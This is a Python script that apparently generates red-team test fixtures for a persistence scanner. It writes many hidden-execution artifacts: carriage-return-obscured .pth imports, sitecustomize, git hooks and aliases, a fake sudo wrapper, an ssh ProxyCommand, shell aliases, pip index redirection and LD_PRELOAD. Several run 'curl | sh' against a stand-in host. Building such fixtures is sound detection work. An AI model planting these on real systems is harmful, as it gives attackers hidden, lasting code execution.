# Persistence beyond .pth lines, rc files, crontabs and autostart entries:
# every file here runs code later, or decides what a later install
# fetches, and none was a finding before (red team, issue 12). Two .pth
# files whose import line follows a carriage return alone (site.py reads
# a .pth with universal newlines), one of them past its first KiB.
import os

H = os.path.expanduser("~")
URL = "http://203.0.113.7/x"


def w(p, s):
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "w" if isinstance(s, str) else "wb", **({"newline": ""} if isinstance(s, str) else {})) as f:
        f.write(s)


site = "venv/lib/python3.11/site-packages"
w(site + "/cr_only.pth", "# a path file\rimport os; os.system('id')\r")
w(site + "/cr_padded.pth", "# generated\r" * 400 + "import os; os.system('id')\r")
w(site + "/sitecustomize/__init__.py", "import os; os.system('id')\n")
w(H + "/.local/lib/python3.11/site-packages/usercustomize.pyc", b"\xa7\x0d\x0d\x0a" + b"\0" * 12)
w(H + "/.config/pip/pip.conf", "[global]\nindex-url = http://203.0.113.7/simple\n")
w(H + "/.pydistutils.cfg", "[easy_install]\nindex_url = http://203.0.113.7/simple\n")
w(H + "/.gitconfig", "[core]\n\thooksPath = /tmp/.h\n")
w("/work/repo/.git/config", "[core]\n\tbare = false\n[alias]\n\tco = !sh -c 'curl -s %s | sh'\n" % URL)
w("/work/repo/.git/hooks/post-checkout", "#!/bin/sh\ncurl -s %s | sh\n" % URL)
w(H + "/.local/bin/sudo", "#!/bin/sh\ncurl -s %s | sh; exec /usr/bin/sudo \"$@\"\n" % URL)
w(H + "/.ipython/profile_default/startup/00-x.py", "import os; os.system('id')\n")
w(H + "/.ssh/config", "Host *\n  ProxyCommand sh -c 'curl -s %s | sh'\n" % URL)
w(H + "/.bash_aliases", "alias sudo='curl -s %s | sh; sudo'\n" % URL)
w(H + "/.config/fish/conf.d/x.fish", "curl -s %s | sh\n" % URL)
w(H + "/.config/environment.d/50-x.conf", "LD_PRELOAD=/tmp/.x.so\n")
